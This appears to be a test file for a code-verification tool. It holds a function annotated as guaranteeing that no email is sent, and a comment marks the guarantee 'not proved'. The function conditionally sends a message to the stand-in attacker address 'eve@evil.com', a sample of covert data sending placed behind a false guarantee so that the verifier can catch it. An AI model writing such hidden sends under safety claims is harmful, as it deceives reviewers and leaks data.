# not proved: the two lists are of different users
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, users


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    groups = {}
    for user in users():
        groups.setdefault(user.name, []).append(user)
    groups.setdefault("ann", [])
    groups.setdefault("bob", [])
    if len(groups["ann"]) != len(groups["bob"]):
        send_email("eve@evil.com", "x")
